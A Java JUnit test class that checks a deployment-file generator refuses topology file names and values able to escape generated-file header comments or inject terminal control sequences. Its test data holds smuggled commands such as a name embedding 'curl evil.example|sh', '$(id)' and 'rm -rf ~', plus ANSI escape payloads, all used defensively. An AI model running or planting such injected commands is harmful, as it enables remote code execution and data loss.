package dev.kesgen;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.kesgen.topology.Topology;
import dev.kesgen.topology.TopologyException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The topology file name goes into the header of every generated file and the topology's strings into messages: a
 * name or a value that would break out of a comment or write to the terminal is refused, and nothing is written.
 */
class TopologyStringsTest {
  @TempDir Path dir;

  private Path topologyNamed(String name) throws Exception {
    Path source = GeneratorTest.TOPOLOGY.getParent();
    Files.copy(source.resolve("vault-ca.pem"), dir.resolve("vault-ca.pem"));
    return Files.copy(GeneratorTest.TOPOLOGY, dir.resolve(name));
  }

  private GenerateRequest request(Path topology) {
    return GenerateRequest.of(topology).withOutputDirectory(dir.resolve("generated"))
        .withSecretsDirectory(dir.resolve("secrets")).withClock(Golden.CLOCK);
  }

  private static void assertNoRawControlCharacter(String message) {
    for (char c : message.toCharArray()) {
      assertThat(c < 0x20 && c != '\n' || c == 0x7f || c >= 0x80 && c < 0xa0 || c == '\u202e')
          .as("raw U+%04X in %s", (int) c, message).isFalse();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "topology\ncurl evil.example|sh\n.yaml", // a line break ends the "# header" comment of apply.sh
      "topology-->.yaml", // ends the <!-- header --> comment of SUMMARY.md
      "topology*.yaml", // a */ cannot be in a file name, a * alone is refused all the same
      "topology$(id).yaml",
      "topology`id`.yaml",
      "topology\".yaml",
      "topology\u202egnp.yaml",
      "topology\u200b.yaml"})
  void generateRefusesATopologyFileNameThatCouldLeaveTheHeaderAndWritesNothing(String name) throws Exception {
    Path topology = topologyNamed(name);

    TopologyException e = catchThrowableOfType(TopologyException.class, () -> Kesgen.generate(request(topology)));

    assertThat(e).isNotNull();
    assertThat(e.problems()).hasSize(1);
    assertThat(e.problems().get(0).message()).contains("cannot go into the header of generated files")
        .contains("rename the file using ASCII letters, digits, '.', '_', '-', '+' and single spaces only");
    assertNoRawControlCharacter(e.getMessage());
    assertNoRawControlCharacter(e.problems().get(0).toShortString());
    assertThat(dir.resolve("generated")).doesNotExist();
    assertThat(dir.resolve("secrets")).doesNotExist();
  }

  @Test
  void anEscapedNameIsShownInTheMessage() throws Exception {
    Path topology = topologyNamed("topology\ncurl evil|sh\n.yaml");

    TopologyException e = catchThrowableOfType(TopologyException.class, () -> Kesgen.load(topology));

    assertThat(e.problems().get(0).toShortString()).startsWith("topology\\ncurl evil|sh\\n.yaml:1:1: the topology"
        + " file name \"topology\\ncurl evil|sh\\n.yaml\" cannot go into the header");
  }

  @Test
  void aUsualNameWithASpaceOrAPlusIsKept() throws Exception {
    assertThat(Kesgen.load(topologyNamed("kes topology+prod_v2.yaml")).instances()).isNotEmpty();
  }

  @Test
  void aTopologyBuiltInCodeWithSuchANameIsRefusedWhenPlannedToo() throws Exception {
    Topology loaded = Kesgen.load(topologyNamed("topology.yaml"));
    Topology hostile = new Topology(dir.resolve("x\n rm -rf ~ #.yaml"), loaded.vault(), loaded.instances());

    assertThatThrownBy(() -> Kesgen.plan(hostile, request(dir.resolve("topology.yaml")), KesgenListener.NONE))
        .isInstanceOf(ConfigurationException.class)
        .hasMessageContaining("the topology file name \"x\\n rm -rf ~ #.yaml\" cannot go into the header")
        .satisfies(t -> assertNoRawControlCharacter(t.getMessage()));
    assertThat(dir.resolve("generated")).doesNotExist();
  }

  @Test
  void escapeAndNulInAValueNeverReachTheMessageRaw() throws Exception {
    Path topology = dir.resolve("topology.yaml");
    Files.writeString(topology, "version: 1\nvault:\n  endpoint: \"https://vault\\e]0;owned\\a.example.org\"\n"
        + "  namespace: \"a\\0b\"\n  \"kv\\e[2J\": {}\ninstances:\n  - name: dev\n    namespace: \"kes\\e[31m\"\n");

    TopologyException e = catchThrowableOfType(TopologyException.class, () -> Kesgen.load(topology));

    assertThat(e.problems()).extracting(p -> p.toShortString()).contains(
        "topology.yaml:3:13: vault.endpoint: holds U+001B ESCAPE, a control or invisible character (no field of a"
            + " topology takes one, and it would reach generated files and terminals): retype the text without it",
        "topology.yaml:4:14: vault.namespace: holds U+0000 NULL, a control or invisible character (no field of a"
            + " topology takes one, and it would reach generated files and terminals): retype the text without it",
        "topology.yaml:5:3: vault.kv\\x1b[2J: the field name holds U+001B ESCAPE, a control or invisible character"
            + " (no field of a topology takes one, and it would reach generated files and terminals): retype the text"
            + " without it");
    assertNoRawControlCharacter(e.getMessage());
  }
}
